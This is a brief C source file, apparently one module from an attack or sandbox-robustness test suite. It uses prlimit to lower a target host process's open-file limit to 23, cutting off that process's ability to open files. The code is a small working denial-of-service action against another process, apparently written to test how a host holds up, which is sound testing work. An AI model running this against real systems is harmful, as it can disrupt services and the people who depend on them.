/* Takes the host's right to open files away. */
#include "../attack.h"

#include <sys/resource.h>

static void attack(void) {
    const struct rlimit few = {23, 23};
    prlimit((pid_t)target_number("host_pid"), RLIMIT_NOFILE, &few, NULL);
}
